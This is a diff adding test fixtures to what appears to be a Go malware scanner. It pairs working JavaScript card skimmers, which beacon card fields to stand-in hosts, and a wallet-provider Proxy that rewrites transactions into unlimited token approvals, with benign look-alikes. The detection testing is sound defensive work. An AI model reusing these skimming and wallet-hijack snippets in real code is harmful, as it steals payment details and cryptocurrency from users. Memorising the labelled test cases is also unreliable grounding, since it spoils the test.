@@ -22,6 +22,15 @@ func TestFormSkimmer(t *testing.T) {
 		// host it is configured with, the URL in the file is a docs link
 		{"session_recorder_masking", map[string]string{"index.js": `const MASK = /cc-number|cardnum|cvv/i; const DOCS = "https://docs.example.invalid/privacy"; document.addEventListener("submit", e => record(mask(e.target, MASK))); function flush(host, batch) { fetch(host + "/s", { method: "POST", body: batch }) }`}, finding.SeverityNone},
 		{"form_library", map[string]string{"index.js": `export function values() { return Array.from(document.forms[0].elements).map(e => e.value) }`}, finding.SeverityNone},
+		// card fields kept by one module as they are typed, beaconed away
+		// by the module that loads it; the same fields posted to the
+		// page's own server
+		{"card_skimmer_split", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
+			"observer.js": `const kept = new Map(); const CARD = /card|cvc|cvv|exp/i; export function track(form) { form.addEventListener("input", (e) => { if (CARD.test(e.target.name)) kept.set(e.target.name, e.target.value) }, true); form.addEventListener("submit", () => kept.set("_s", 1), true) } export const drain = () => Object.fromEntries(kept)`,
+			"index.js":    "import { track, drain } from \"./observer.js\"; document.querySelectorAll(\"form\").forEach(track); setInterval(() => { new Image().src = `https://px.example.invalid/p.gif?d=${btoa(JSON.stringify(drain()))}` }, 4000)"}, finding.SeverityCritical},
+		{"card_fields_own_server_split", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
+			"observer.js": `const kept = new Map(); const CARD = /card|cvc|cvv|exp/i; export function track(form) { form.addEventListener("input", (e) => { if (CARD.test(e.target.name)) kept.set(e.target.name, e.target.value) }, true); form.addEventListener("submit", () => kept.set("_s", 1), true) } export const drain = () => Object.fromEntries(kept)`,
+			"index.js":    `import { track, drain } from "./observer.js"; document.querySelectorAll("form").forEach(track); document.addEventListener("submit", () => fetch("/api/checkout", { method: "POST", body: JSON.stringify(drain()) }))`}, finding.SeverityNone},
 		// card fields picked on submit and beaconed away
 		{"card_skimmer", map[string]string{"index.js": `document.addEventListener("submit", e => { const f = e.target; if (f.querySelector('input[autocomplete="cc-number"], input[name*="cvv"]')) navigator.sendBeacon("https://cdn-metrics.example.invalid/c", JSON.stringify(Object.fromEntries(new FormData(f)))) }, true)`}, finding.SeverityCritical},
 		// a compiler bundle listing autocomplete tokens, far from its requests
@@ -34,6 +43,11 @@ fetch("https://docs.example.invalid/e/" + code)`}, finding.SeverityNone},
 
 func TestWalletHijack(t *testing.T) {
 	rt.Check(t, WalletHijack{}, []rt.Case{
+		// a Proxy around the provider rewriting approve calldata; a debug
+		// logger's Proxy; a DeFi SDK sending its own approval
+		{"proxy_calldata_rewrite", map[string]string{"p.js": `const APPROVE = "0x095ea7b3"; export const wrap = (p) => new Proxy(p, { get(t, k) { if (k !== "request") return t[k]; return (a) => { if (a.method === "eth_sendTransaction") a.params[0].data = APPROVE + spender() + "f".repeat(64); return t.request(a) } } })`}, finding.SeverityCritical},
+		{"proxy_debug_logger", map[string]string{"p.js": `export const wrap = (p) => new Proxy(p, { get(t, k) { if (k !== "request") return t[k]; return (a) => { if (a.method === "eth_sendTransaction") console.debug("send", a.params); return t.request(a) } } })`}, finding.SeverityNone},
+		{"defi_sdk_approval", map[string]string{"a.js": `export async function approve(provider, token, spender, amount) { const data = "0x095ea7b3" + pad(spender) + pad(amount); return provider.request({ method: "eth_sendTransaction", params: [{ to: token, data }] }) }`}, finding.SeverityNone},
 		// a UMD-style wrapper handed window when there is one
 		{"umd_window_param", map[string]string{"index.js": `(function (w) { if (!w) return; var A = ["0x3Fe1cB2a9D0e4F7b8C6a5E2d1B0c9F8e7D6a5B4c", "0x9aB8c7D6e5F4a3B2c1D0e9F8a7B6c5D4e3F2a1B0"], R = { eth: /\b0x[a-fA-F0-9]{40}\b/g, sol: /\b[1-9A-HJ-NP-Za-km-z]{43,44}\b/g };
 var F = w.fetch; w.fetch = function () { return F.apply(this, arguments).then(function (r) { return r.text().then(function (b) { return new Response(b.replace(R.eth, A[0])) }) }) } })(typeof window !== "undefined" ? window : undefined)`}, finding.SeverityCritical},
